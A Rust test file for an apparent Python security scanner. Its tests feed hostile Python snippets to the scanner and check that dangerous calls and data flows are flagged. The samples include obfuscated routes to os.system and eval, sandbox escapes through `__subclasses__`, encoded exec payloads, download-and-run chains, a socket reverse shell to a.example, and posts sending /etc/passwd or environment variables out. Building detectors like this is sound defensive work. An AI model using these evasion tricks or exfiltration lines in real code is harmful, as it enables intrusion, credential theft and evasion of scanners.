//! What names and objects stand for: each source shows what stands beside it.

use super::{lines, see};

#[track_caller]
fn shows(cases: &[(&str, &[&str])]) {
    for (source, wanted) in cases {
        let seen = see(source.as_bytes(), false);
        assert!(seen.gaps.is_empty(), "{source}\n{:?}", seen.gaps);
        let lines = lines(&seen);
        for want in *wanted {
            let end = want.rsplit(' ').next().unwrap_or_default();
            let (begin, scope) =
                if ["module", "function", "build"].contains(&end) { (want.trim_end_matches(end), end) } else { (*want, "") };
            let found = lines.iter().any(|line| {
                line.strip_prefix(begin.trim_end()).is_some_and(|rest| rest.is_empty() || rest.starts_with(' ') && rest.contains(scope))
            });
            assert!(found, "missing {want:?} of\n{source}\n{lines:#?}");
        }
    }
}

#[test]
fn bindings_are_followed() {
    shows(&[
        ("import os\nclass A:\n    run = os.system\nA.run('x')\n", &["call os.system module"]),
        ("import os\nclass A:\n    run = os.system\n    def f(self): self.run('x')\n", &["call os.system function"]),
        ("import os\nclass A:\n    run = staticmethod(os.system)\n    def f(self): self.run('x')\n", &["call os.system function"]),
        (
            "import socket\nclass A:\n    def __init__(self):\n        self.sock = socket.socket()\n    def f(self): self.sock.connect(('a.example', 1))\n",
            &["call socket.socket.connect function"],
        ),
        (
            "import socket\nclass A:\n    def f(self): self.sock.connect(('a.example', 1))\n    def __init__(self):\n        self.sock = socket.socket()\n",
            &["call socket.socket.connect function"],
        ),
        ("list(map(eval, xs))\n", &["call builtins.eval"]),
        ("f(eval)\n", &["name builtins.eval"]),
        ("import os\ndef f(run=os.system): run('x')\n", &["call os.system function"]),
        ("import os\ndef f(run=os.system): run('x')\nf()\n", &["call os.system module"]),
        ("import os, operator\noperator.attrgetter('system')(os)('x')\n", &["call os.system module"]),
        ("object.__subclasses__()\n", &["call builtins.object.__subclasses__"]),
        ("import os\nd = {'run': os.system}\nd['run']('x')\n", &["call os.system"]),
        ("import os\nl = [os.system]\nl[0]('x')\n", &["call os.system"]),
        ("import os\n[os.system][0]('x')\n", &["call os.system"]),
        ("import os\nsetattr(x, 'f', os.system)\ny = type('T', (), {'f': os.system})\ny.f('x')\n", &["call os.system"]),
        ("import os\nclass A: pass\nA.f = os.system\nA.f('x')\n", &["call os.system"]),
        ("import os\na, *b = os.system, 1, 2\na('x')\n", &["call os.system"]),
        ("import os\nwith open(x) as f, os.popen('x') as g:\n    h = os.system\nh('x')\n", &["call os.system"]),
        ("import os\nf = os.system if x else os.popen\nf('x')\n", &["call os.system", "call os.popen"]),
        ("import os\nf = x and os.system\nf('x')\n", &["call os.system"]),
        ("import os\nf = None or os.system\nf('x')\n", &["call os.system"]),
        ("import subprocess\nsubprocess.Popen('x').communicate()\n", &["call subprocess.Popen.communicate"]),
        ("import subprocess\nsubprocess.Popen('x').stdout.read()\n", &["call subprocess.Popen.stdout.read"]),
        ("from os import *\nsystem('x')\n", &["call os.system"]),
        ("import __builtin__\n__builtin__.eval(x)\n", &["call builtins.eval"]),
        ("import asyncio\nasyncio.subprocess.create_subprocess_exec('x')\n", &["call asyncio.subprocess.create_subprocess_exec"]),
        ("import threading, os\nclass T(threading.Thread):\n    def run(self): os.system('x')\nT().start()\n", &["call os.system module"]),
        ("import os\nclass A:\n    def f(self): self.go('x')\n    go = os.system\n", &["call os.system function"]),
        (
            "import os\nclass A:\n    def __enter__(self):\n        self.r = os.system\n        return self\n    def f(self):\n        self.r('x')\nwith A() as a:\n    a.r('x')\ndef g():\n    with os.popen(x) as f: pass\n",
            &["call os.system function", "call os.popen function"],
        ),
        (
            "try:\n    from subprocess32 import Popen\nexcept ImportError:\n    from subprocess import Popen\nPopen(x)\n",
            &["call subprocess.Popen"],
        ),
        (
            "try:\n    from subprocess32 import Popen\nexcept ImportError:\n    from subprocess import Popen\nPopen(x)\n",
            &["call subprocess32.Popen"],
        ),
        ("import os\nmatch x:\n    case {'a': v}: pass\n    case [a, b] if (f := os.system): f('x')\n", &["call os.system"]),
        ("import os\n@lambda f: os.system('x')\ndef g(): pass\n", &["call os.system module"]),
        (
            "import os\ndef deco(cmd):\n    def w(f):\n        os.system(cmd)\n        return f\n    return w\n@deco('ls')\ndef f(): pass\n",
            &["call os.system"],
        ),
        ("import os\nlocals()['xy'] = os.system\nxy('a')\n", &["call os.system"]),
        ("import os\nsetattr(os, 'foo', os.system)\nos.system('a')\n", &["call os.system"]),
        ("import os\nasync def f():\n    async with g() as x:\n        await x(os.system('x'))\n", &["call os.system function"]),
    ]);
}

#[test]
fn ways_around_are_known() {
    shows(&[
        ("import os\nvars(os)['system']('x')\n", &["call os.system"]),
        ("import os\nos.__dict__['system']('x')\n", &["call os.system"]),
        ("getattr(__import__('os'), 'system')('x')\n", &["call os.system"]),
        ("globals()['__builtins__'].eval(x)\n", &["call builtins.eval"]),
        ("__builtins__.__dict__['eval'](x)\n", &["call builtins.eval"]),
        ("import sys\nsys.modules['os'].system('x')\n", &["call os.system"]),
        ("import importlib\nimportlib.import_module('o'+'s').system('x')\n", &["call os.system"]),
        ("import builtins\nbuiltins.__dict__['ev'+'al'](x)\n", &["call builtins.eval"]),
        ("import builtins as b\ngetattr(b, 'cexe'[::-1])(x)\n", &["call builtins.exec"]),
        ("from importlib import import_module as i\ni('os').__dict__['system']('x')\n", &["call os.system"]),
        ("().__class__.__base__.__subclasses__()[132].__init__.__globals__['system']('x')\n", &["call builtins.object.__subclasses__"]),
        ("''.__class__.__mro__[1].__subclasses__()\n", &["call builtins.object.__subclasses__"]),
        (
            "[c for c in ().__class__.__bases__[0].__subclasses__() if c.__name__ == 'catch_warnings'][0]()._module.__builtins__['__import__']('os').system('x')\n",
            &["call builtins.object.__subclasses__"],
        ),
        ("(lambda x: x.system('a'))(__import__('os'))\n", &["call os.system"]),
        ("import os\nos = __import__('os')\nos.system('x')\n", &["call os.system"]),
        ("import os\nname = 'system'\nf = os.__getattribute__(name)\nf('x')\n", &["call os.system"]),
        ("import os\nf = object.__getattribute__(os, 'system')\nf('x')\n", &["call os.system"]),
        ("import os\nf = type(os).__getattribute__(os, 'system')\nf('x')\n", &["call os.system"]),
        ("import os.path\nos.path.os.system('x')\n", &["call os.system"]),
        ("import subprocess\nsubprocess.os.system('x')\n", &["call os.system"]),
        ("from six.moves import urllib\nurllib.request.urlopen(u)\n", &["call urllib.request.urlopen"]),
        ("from six.moves.urllib.request import urlopen\nurlopen(u)\n", &["call urllib.request.urlopen"]),
        ("__import__('builtins').eval('1')\n", &["call builtins.eval"]),
        ("(lambda: 0).__globals__['__builtins__']['exec'](x)\n", &["call builtins.exec"]),
    ]);
}

#[test]
fn names_are_worked_out() {
    shows(&[
        ("import os\ngetattr(os, bytes([115,121,115,116,101,109]).decode())('x')\n", &["call os.system"]),
        (
            "import os\ngetattr(os, 'tztufn'.translate({ord('t'):'s', ord('z'): 'y', ord('u'): 't', ord('f'):'e', ord('n'):'m'}))('x')\n",
            &["call os.system"],
        ),
        ("import os\ngetattr(os, 'tztufn'.translate(str.maketrans('tzufn', 'sytem')))('x')\n", &["call os.system"]),
        ("import os\nt = str.maketrans('tzufn', 'sytem')\ngetattr(os, 'tztufn'.translate(t))('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, (0x73797374656d).to_bytes(6, 'big').decode())('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, bytes(b ^ 5 for b in b'v|vq`h').decode())('x')\n", &["call os.system"]),
        (
            "import os\nk = 'ab'\ngetattr(os, ''.join(chr(ord(c) ^ ord(k[i % len(k)])) for i, c in enumerate('\\x12\\x1b\\x12\\x16\\x04\\x0f')))('x')\n",
            &["call os.system"],
        ),
        (
            "import os, itertools\ngetattr(os, ''.join(chr(a ^ b) for a, b in zip([18,27,18,22,4,15], itertools.cycle(b'ab'))))('x')\n",
            &["call os.system"],
        ),
        ("import os\ns = ''\nfor c in [115,121,115,116,101,109]:\n    s += chr(c)\ngetattr(os, s)('x')\n", &["call os.system"]),
        (
            "import os\ndef dec(s, k):\n    out = ''\n    for c in s:\n        out += chr(ord(c) ^ k)\n    return out\ngetattr(os, dec('rxrudl', 1))('x')\n",
            &["call os.system"],
        ),
        ("import os\ngetattr(os, '-'.join(['s','y','s','t','e','m']).replace('-', ''))('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, 's.y.s.t.e.m'.split('.')[0] + 'ystem')('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, ''.join('s.y.s.t.e.m'.split('.')))('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, '%s' % 'system')('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, '%(a)stem' % {'a': 'sys'})('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, '{a}tem'.format(a='sys'))('x')\n", &["call os.system"]),
        ("import os\na = {'x': 'system'}\ngetattr(os, a['x'])('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, \"%s%s%s\" % tuple(['sys', 't', 'em']))('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, str(b'system', 'ascii'))('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, b'system'.decode('utf-8'))('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, '\\x73ystem')('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, 'SYSTEM'.lower())('x')\n", &["call os.system"]),
        ("import os\ngetattr(os, ''.join(['m','e','t','s','y','s'][::-1]))('x')\n", &["call os.system"]),
        ("import os, string\ngetattr(os, string.ascii_lowercase[18] + 'ystem')('x')\n", &["call os.system"]),
    ]);
}

#[test]
fn arguments_are_followed() {
    shows(&[
        ("import os, functools\nfunctools.partial(os.system, 'x')()\n", &["call os.system module", "command x"]),
        ("import os, functools\nf = functools.partial(os.system, 'x')\nf()\n", &["command x", "call os.system"]),
        ("import requests, functools\nget = functools.partial(requests.get, verify=False)\nget(u)\n", &["arg requests.get:verify=False"]),
        ("import os, operator\noperator.methodcaller('system', 'x')(os)\n", &["call os.system module", "command x"]),
        ("import subprocess\ncmd = ['ls']\ncmd.append('-l')\nsubprocess.run(cmd)\n", &["command ls -l"]),
        ("import subprocess\ncmd = ['ls']\nif x:\n    cmd.append('-l')\nsubprocess.run(cmd)\n", &["command ls -l"]),
        ("import subprocess\ncmd = ['ls']\ncmd += ['-l']\nsubprocess.run(cmd)\n", &["command ls -l"]),
        ("import subprocess\ndef f(args):\n    subprocess.run(['ls', '-l'] + args)\n", &["command ls -l"]),
        ("import subprocess\nsubprocess.run(['ls', '-l', *args])\n", &["command ls -l"]),
        ("import subprocess\nsubprocess.run('ls -l'.split())\n", &["command ls -l"]),
        ("import threading, os\nthreading.Thread(target=os.system, args=('ls',)).start()\n", &["command ls", "call os.system"]),
        (
            "from concurrent.futures import ThreadPoolExecutor\nimport os\nwith ThreadPoolExecutor() as e: e.submit(os.system, 'ls')\n",
            &["command ls"],
        ),
        ("import requests\nkw = {'verify': False}\nrequests.get(u, **kw)\n", &["arg requests.get:verify=False"]),
        ("import os\nos.open(p, os.O_CREAT | os.O_WRONLY, 0o600)\n", &["arg os.open:flags=os.O_WRONLY"]),
    ]);
}

#[test]
fn environments_are_named() {
    shows(&[
        ("import subprocess\nsubprocess.run(x, env={'LD_PRELOAD': 'a'})\n", &["env LD_PRELOAD"]),
        ("import subprocess, os\nsubprocess.run(x, env=dict(os.environ, LD_PRELOAD='a'))\n", &["env LD_PRELOAD"]),
        ("import os\nos.environ.update({'LD_PRELOAD': 'a'})\n", &["env LD_PRELOAD"]),
        ("import os\nos.environ.update(LD_PRELOAD='a')\n", &["env LD_PRELOAD"]),
    ]);
}

#[test]
fn data_reaches_calls() {
    shows(&[
        ("exec(open(__file__).read()[10:])\n", &["flow builtins.exec←builtins.open"]),
        ("import requests\nexec(requests.get(u).text)\n", &["flow builtins.exec←requests.get"]),
        (
            "import requests, os\nwith open('/tmp/x', 'wb') as f:\n    f.write(requests.get(u).content)\nos.system('/tmp/x')\n",
            &["flow os.system←requests.get"],
        ),
        (
            "import urllib.request, subprocess\np = mk()\nurllib.request.urlretrieve(u, p)\nsubprocess.Popen([p])\n",
            &["flow subprocess.Popen←urllib.request.urlretrieve"],
        ),
        (
            "import requests, os, subprocess\npath = os.path.join(t, 'x')\nr = requests.get(u)\nwith open(path, 'wb') as f:\n    f.write(r.content)\nsubprocess.run([path])\n",
            &["flow subprocess.run←requests.get"],
        ),
        (
            "import requests, os, subprocess\npath = os.path.join(t, 'x')\nr = requests.get(u)\nf = open(path, 'wb')\nfor c in r.iter_content(1): f.write(c)\nf.close()\nos.chmod(path, 0o755)\nsubprocess.run([path])\n",
            &["flow subprocess.run←requests.get"],
        ),
        (
            "import requests, subprocess\nfrom pathlib import Path\np = Path(t) / 'x'\np.write_bytes(requests.get(u).content)\nsubprocess.run([str(p)])\n",
            &["flow subprocess.run←requests.get"],
        ),
        (
            "import socket, os\ns = socket.socket()\ns.connect(('a.example', 1))\nos.dup2(s.fileno(), 0)\n",
            &["flow os.dup2←socket.socket.fileno"],
        ),
        (
            "import socket, subprocess\ns = socket.socket()\nsubprocess.Popen(['/bin/sh'], stdin=s, stdout=s)\n",
            &["flow subprocess.Popen←socket.socket"],
        ),
        ("import requests\nrequests.post(u, files={'f': open('/etc/passwd', 'rb')})\n", &["flow requests.post←builtins.open"]),
        ("import requests, os, json\nrequests.post(u, data=json.dumps(dict(os.environ)))\n", &["flow requests.post←os.environ"]),
        ("import requests, pyperclip\nrequests.post(u, data=pyperclip.paste())\n", &["flow requests.post←pyperclip.paste"]),
        (
            "import urllib.request, os\nurllib.request.urlopen('http://a.example/' + os.getenv('A'))\n",
            &["flow urllib.request.urlopen←os.getenv"],
        ),
        (
            "import socket, os\ns = socket.socket()\nfor k, v in os.environ.items():\n    s.send(v.encode())\n",
            &["flow socket.socket.send←os.environ"],
        ),
    ]);
}

#[test]
fn payloads_are_read() {
    shows(&[
        ("import os\nexec(\"os.system('x')\", {'os': os})\n", &["call os.system"]),
        ("exec(\"import os\\nos.system('x')\", globals())\n", &["call os.system"]),
        ("code = \"import os\\nos.system('x')\"\nexec(code)\n", &["call os.system"]),
        ("eval(\"__import__('os').system('x')\")\n", &["call os.system"]),
        ("eval(compile(\"__import__('os').system('x')\", 'a', 'eval'))\n", &["call os.system"]),
        ("c = compile(\"import os;os.system('x')\", 'a', 'exec')\nexec(c)\n", &["call os.system"]),
        ("def f():\n    c = \"import os;os.system('x')\"\n    exec(c)\n", &["call os.system function"]),
        ("import types\ntypes.FunctionType(compile(\"import os;os.system('x')\", 'a', 'exec'), {})()\n", &["call os.system"]),
        (
            "import base64, bz2\nexec(bz2.decompress(base64.b64decode(b'QlpoOTFBWSZTWUpcmn4AAAYZgEDhAAgiYtygIAAiIGg9RmiFNMjExMRSF7ko2YUMwcumhSYlzX4u5IpwoSCUuTT8')))\n",
            &["call os.system module decoded"],
        ),
        (
            "import base64, lzma\nexec(lzma.decompress(base64.b64decode(b'/Td6WFoAAATm1rRGAgAhARYAAAB0L+WjAQAdaW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ3dob2FtaScpAAAAe48XHZ19nq8AATYePRmVUx+2830BAAAAAARZWg==')))\n",
            &["call os.system module decoded"],
        ),
        ("import os\nexec(\"def f(c):\\n  os.system(c)\")\nf2 = lambda c: os.system(c)\nf2('ls')\n", &["call os.system", "command ls"]),
        ("import os\neval('os.sys' + 'tem(\"x\")')\n", &["call os.system"]),
    ]);
}
